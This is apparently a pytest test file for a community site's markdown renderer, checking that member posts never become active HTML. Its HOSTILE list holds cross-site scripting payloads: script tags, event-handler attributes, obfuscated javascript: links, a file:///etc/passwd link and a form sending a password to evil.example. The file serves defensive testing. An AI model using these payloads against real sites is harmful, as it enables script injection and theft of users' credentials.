"""community.markdown.render: what members write can never become active HTML."""
from html.parser import HTMLParser

import pytest

from community.markdown import TAGS, plain_text, render


class Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attrs, self.text = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend((tag, name, value or "") for name, value in attrs)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        self.text.append(data)


def parse(html):
    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector


def assert_inert(html):
    """Only allowed tags, no event handlers or styles, no URL that runs code."""
    doc = parse(html)
    assert set(doc.tags) <= TAGS, doc.tags
    for tag, name, value in doc.attrs:
        assert not name.startswith("on"), (tag, name)
        assert name in {"href", "title", "start", "rel"} or (tag in ("pre", "table") and (name, value) == ("tabindex", "0")), \
            (tag, name)
        if name == "href":
            scheme = value.split(":", 1)[0].strip().lower() if ":" in value.split("/", 1)[0] else ""
            assert scheme in {"", "http", "https", "mailto"}, value
    return doc


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<div onclick="alert(1)" style="position:fixed">x</div>',
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)>",
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name=password></form>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](https://example.org/x.png)",
    '![x](x" onerror="alert(1))',
    '[x](https://example.org "a" onmouseover="alert(1)")',
    "<!-- comment --><p>raw</p>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a | b |\n|---|---|\n| <script>x</script> | [y](javascript:z) |",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_is_inert(source):
    html = render(source)
    assert_inert(html)
    lowered = html.lower()
    assert "<script" not in lowered and "<img" not in lowered and "<iframe" not in lowered
    assert "<svg" not in lowered and "<style" not in lowered and "<form" not in lowered


def test_raw_html_is_shown_as_text_not_dropped():
    html = render("I typed <b>bold</b> & <script>alert(1)</script> here.")
    assert "&lt;b&gt;bold&lt;/b&gt;" in html
    assert "&lt;script&gt;" in html
    assert parse(html).tags == ["p"]
    assert plain_text(html) == "I typed <b>bold</b> & <script>alert(1)</script> here.\n"


def test_javascript_links_are_not_links():
    for source in ("[click](javascript:alert(1))", "<javascript:alert(1)>", '<a href="javascript:x">y</a>'):
        assert "a" not in parse(render(source)).tags, source


def test_links_get_rel_nofollow_and_keep_safe_attributes():
    html = render('[the NHS page](https://www.nhs.uk/conditions/asthma/ "Asthma") and [mail](mailto:a@example.org)')
    doc = assert_inert(html)
    links = [(t, n, v) for t, n, v in doc.attrs if t == "a"]
    assert ("a", "href", "https://www.nhs.uk/conditions/asthma/") in links
    assert ("a", "title", "Asthma") in links
    assert ("a", "href", "mailto:a@example.org") in links
    rels = [v for t, n, v in links if n == "rel"]
    assert len(rels) == 2
    for rel in rels:
        assert {"nofollow", "noopener", "noreferrer", "ugc"} <= set(rel.split())


def test_headings_never_compete_with_the_page_h1():
    html = render("# Big title\n\n## Section\n\n### Small\n\ntext")
    doc = parse(html)
    assert "h1" not in doc.tags
    assert doc.tags[:2] == ["h2", "h2"] and "h3" in doc.tags
    assert "<h2>Big title</h2>" in html
    # Levels beyond the allowed ones lose the tag but keep the words.
    deep = render("##### Deep note\n\n###### Deeper")
    assert set(parse(deep).tags) <= TAGS and "Deep note" in deep and "Deeper" in deep


def test_ordinary_markdown_still_works():
    html = render("**bold** *it*\n\n> quoted\n\n1. one\n2. two\n\n- a\n\n`code`\n\n---")
    tags = set(parse(html).tags)
    assert {"strong", "em", "blockquote", "ol", "li", "ul", "code", "hr"} <= tags
    assert '<ol start="3">' in render("3. three\n4. four")
    assert {"table", "thead", "tbody", "tr", "th", "td"} <= set(parse(render("| a | b |\n|---|---|\n| 1 | 2 |")).tags)


def test_strikethrough_survives():
    assert parse(render("~~old dose~~")).tags == ["p", "del"] or "<s>old dose</s>" in render("~~old dose~~")
